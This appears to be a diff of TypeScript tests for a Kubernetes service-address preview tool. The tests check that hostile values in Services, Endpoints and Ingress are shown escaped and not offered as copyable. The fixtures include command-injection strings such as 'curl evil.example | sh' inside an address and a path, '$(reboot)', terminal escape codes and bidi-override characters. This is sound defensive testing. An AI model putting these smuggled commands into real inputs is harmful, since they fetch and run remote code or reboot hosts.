@@ -537,3 +537,116 @@ test('a file the index does not hold, a Helm template, and defaultNamespace', ()
   assert.equal(service.namespace, 'team-a');
   assert.equal(texts(group(service, 'cluster-dns'))[0], 'my-service.team-a.svc.cluster.local:80');
 });
+
+// --- hostile values (issue 10): only valid addresses are copyable, and what is shown is what is copied ---------
+
+const HOSTILE_LB = `apiVersion: v1
+kind: Service
+metadata:
+  name: web
+spec:
+  type: LoadBalancer
+  selector:
+    app: web
+  externalIPs:
+    - "198.51.100.1\\u001b[2J"
+    - 198.51.100.2
+  ports:
+    - port: 80
+      nodePort: 30080
+status:
+  loadBalancer:
+    ingress:
+      - ip: "203.0.113.1\\n$(reboot)"
+      - hostname: "lb\\u202emoc.example.com"
+      - hostname: "lb\\u0000.example.com"
+      - ip: 203.0.113.7
+`;
+
+/** Every address of the model, with its group. */
+function allAddresses(service: ServicePreview): { kind: AddressKind; text: string; copyable: boolean; invalid?: boolean; note?: string }[] {
+  return service.addresses.flatMap((g) => g.addresses.map((a) => ({ kind: g.kind, ...a })));
+}
+
+/** What a shell or a screen would treat specially: nothing of it may be in a copyable address. */
+const UNSAFE = /[\s\p{Cc}\p{Cf}$`'"()<>|;&\\*!{}]/u;
+
+function assertCopyableAreSafe(service: ServicePreview): void {
+  for (const a of allAddresses(service)) {
+    if (a.copyable) assert.doesNotMatch(a.text, UNSAFE, `copyable ${JSON.stringify(a.text)}`);
+    if (a.invalid) {
+      assert.equal(a.copyable, false);
+      assert.doesNotMatch(a.text, /[\p{Cc}\p{Cf}]/u, `hidden characters shown escaped: ${JSON.stringify(a.text)}`);
+      assert.match(a.note ?? '', /^⚠ not a valid address/);
+    }
+  }
+}
+
+test('load balancer and external IPs: a value with a newline, $(…), ESC, NUL or a bidi override is shown escaped, not copyable', () => {
+  const service = only(preview({ 'svc.yaml': HOSTILE_LB }, 'svc.yaml'));
+  assertCopyableAreSafe(service);
+  assert.deepEqual(
+    group(service, 'load-balancer').addresses.map((a) => [a.text, a.copyable, a.invalid === true]),
+    [
+      ['http://203.0.113.1\\n$(reboot)', false, true],
+      ['http://lb\\u202emoc.example.com', false, true],
+      ['http://lb\\x00.example.com', false, true],
+      ['http://203.0.113.7', true, false],
+    ],
+  );
+  assert.deepEqual(
+    group(service, 'external-ip').addresses.map((a) => [a.text, a.copyable, a.invalid === true]),
+    [
+      ['http://198.51.100.1\\x1b[2J', false, true],
+      ['http://198.51.100.2', true, false],
+    ],
+  );
+});
+
+test('ExternalName, Endpoints addresses and Ingress hosts and paths: only valid parts make a copyable address', () => {
+  const external = `apiVersion: v1\nkind: Service\nmetadata:\n  name: db\nspec:\n  type: ExternalName\n  externalName: "db.example.com\\n"\n  ports:\n    - port: 5432\n`;
+  const db = only(preview({ 'db.yaml': external }, 'db.yaml'));
+  assertCopyableAreSafe(db);
+  assert.deepEqual(group(db, 'external-name').addresses.map((a) => [a.text, a.copyable]), [
+    ['db.example.com\\n', false],
+    ['http://db.example.com\\n:5432', false],
+  ]);
+  const fqdn = only(preview({ 'db.yaml': external.replace('db.example.com\\n', 'db.example.com.') }, 'db.yaml'));
+  assert.deepEqual(group(fqdn, 'external-name').addresses.map((a) => [a.text, a.copyable]), [
+    ['db.example.com.', true],
+    ['http://db.example.com.:5432', true],
+  ]);
+
+  const manual = `apiVersion: v1\nkind: Service\nmetadata:\n  name: legacy\nspec:\n  ports:\n    - port: 80\n---\napiVersion: v1\nkind: Endpoints\nmetadata:\n  name: legacy\nsubsets:\n  - addresses:\n      - ip: "10.0.0.1 && curl evil.example | sh"\n      - ip: 10.0.0.2\n      - ip: 010.0.0.3\n    ports:\n      - port: 8080\n`;
+  const legacy = only(preview({ 'legacy.yaml': manual }, 'legacy.yaml'));
+  assertCopyableAreSafe(legacy);
+  assert.deepEqual(group(legacy, 'endpoints').addresses.map((a) => [a.text, a.copyable]), [
+    ['10.0.0.1 && curl evil.example | sh:8080', false],
+    ['10.0.0.2:8080', true],
+    // Leading zeros: the API server reads 10.0.0.3, curl reads octal 8.0.0.3; not offered.
+    ['010.0.0.3:8080', false],
+  ]);
+
+  const ingress = `apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: shop\nspec:\n  rules:\n    - host: "shop.example.com\\u2028evil"\n      http:\n        paths:\n          - path: /\n            pathType: Prefix\n            backend:\n              service:\n                name: web\n                port:\n                  number: 80\n    - host: shop.example.com\n      http:\n        paths:\n          - path: "/$(curl evil.example|sh)"\n            pathType: ImplementationSpecific\n            backend:\n              service:\n                name: web\n                port:\n                  number: 80\n          - path: /api/v1\n            pathType: Prefix\n            backend:\n              service:\n                name: web\n                port:\n                  number: 80\n`;
+  const web = `apiVersion: v1\nkind: Service\nmetadata:\n  name: web\nspec:\n  selector:\n    app: web\n  ports:\n    - port: 80\n`;
+  const routed = only(preview({ 'svc.yaml': web, 'ing.yaml': ingress }, 'svc.yaml'));
+  assertCopyableAreSafe(routed);
+  assert.deepEqual(group(routed, 'ingress').addresses.map((a) => [a.text, a.copyable]), [
+    ['http://shop.example.com\\u2028evil/', false],
+    ['http://shop.example.com/$(curl evil.example|sh)', false],
+    ['http://shop.example.com/api/v1', true],
+  ]);
+});
+
+test('a Service or namespace name that is not a DNS label makes its cluster DNS names not copyable', () => {
+  const named = `apiVersion: v1\nkind: Service\nmetadata:\n  name: "web\\u202e"\n  namespace: "shop\\tx"\nspec:\n  selector:\n    app: web\n  ports:\n    - port: 80\n`;
+  const service = only(preview({ 'svc.yaml': named }, 'svc.yaml'));
+  assertCopyableAreSafe(service);
+  assert.deepEqual(texts(group(service, 'cluster-dns')), [
+    'web\\u202e.shop\\tx.svc.cluster.local:80',
+    'web\\u202e.shop\\tx:80',
+    'web\\u202e:80',
+  ]);
+  assert.ok(group(service, 'cluster-dns').addresses.every((a) => !a.copyable && a.invalid === true));
+  assert.equal(only(preview({ 'svc.yaml': named }, 'svc.yaml', settingsFrom({ language: 'ko' }))).name, 'web\u202e');
+});
